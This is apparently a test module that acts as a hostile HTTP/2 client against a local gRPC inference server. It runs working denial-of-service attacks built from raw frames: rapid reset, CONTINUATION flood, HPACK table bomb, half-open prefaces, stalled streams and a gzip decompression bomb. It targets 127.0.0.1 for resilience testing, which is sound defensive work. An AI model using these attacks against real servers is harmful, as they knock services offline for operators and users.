"""Hostile peers by raw bytes, in a process of their own: `python -m tests.kanserve.attacks NAME PORT`.

Sources: CVE-2023-44487 (rapid reset), CVE-2024-27316 and its like (CONTINUATION), RFC 7541 section 7.3 (HPACK's
memory).
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import struct
import sys
import time

import h2.config
import h2.connection

INFER = "/inference.GRPCInferenceService/ModelInfer"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
SECONDS = 1.0  # of a flood


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(port: int) -> socket.socket:
    made = socket.create_connection(("127.0.0.1", port), timeout=10)
    made.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return made


def headers(more: list[tuple[str, str]] | None = None) -> bytes:
    """A block of gRPC's headers."""
    state = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    usual = [(":method", "POST"), (":scheme", "http"), (":path", INFER), (":authority", "a")]
    return bytes(
        state.encoder.encode([*usual, ("content-type", "application/grpc"), ("te", "trailers"), *(more or [])])
    )


def rapid_resets(port: int) -> None:
    block = headers()
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(port) as peer:
            for stream in range(1, 2001, 2):
                peer.sendall(frame(HEADERS, 4, stream, block) + frame(RST, 0, stream, struct.pack(">I", 8)))


def continuations(port: int) -> None:
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(port) as peer:
            peer.sendall(frame(HEADERS, 0, 1, headers()))
            while time.monotonic() < end:
                peer.sendall(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000) * 8)


def hpack_bombs(port: int) -> None:
    """One large entry of the table, named over and over."""
    block = headers() + b"\x40\x01a" + b"\x7f" + bytes([3000 - 127 & 0x7F | 0x80, 3000 - 127 >> 7]) + b"x" * 3000
    for _ in range(20):
        with contextlib.suppress(OSError), connect(port) as peer:
            for stream in range(1, 100, 2):
                peer.sendall(frame(HEADERS, 4, stream, block + b"\xbe" * 10_000))


def half_prefaces(port: int) -> None:
    peers = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(200)]
    for peer in peers:
        peer.sendall(PREFACE[:10])
    time.sleep(SECONDS)
    for peer in peers:
        peer.close()


def bodiless(port: int) -> None:
    block = headers()
    peers = [connect(port) for _ in range(10)]
    for peer in peers:
        peer.sendall(b"".join(frame(HEADERS, 4, stream, block) for stream in range(1, 200, 2)))
    time.sleep(SECONDS)
    for peer in peers:
        peer.close()


def bombs(port: int) -> None:
    """300 MB in 300 kB."""
    packed = gzip.compress(bytes(300 * 2**20), 9)
    message = b"\x01" + struct.pack(">I", len(packed)) + packed
    for _ in range(5):
        with contextlib.suppress(OSError), connect(port) as peer:
            peer.sendall(frame(HEADERS, 4, 1, headers([("grpc-encoding", "gzip")])))
            for at in range(0, len(message), 16384):
                part = message[at : at + 16384]
                peer.sendall(frame(DATA, int(at + 16384 >= len(message)), 1, part))
            peer.recv(65536)


ATTACKS = (rapid_resets, continuations, hpack_bombs, half_prefaces, bodiless, bombs)
NAMES = tuple(attack.__name__ for attack in ATTACKS)

if __name__ == "__main__":
    ATTACKS[NAMES.index(sys.argv[1])](int(sys.argv[2]))
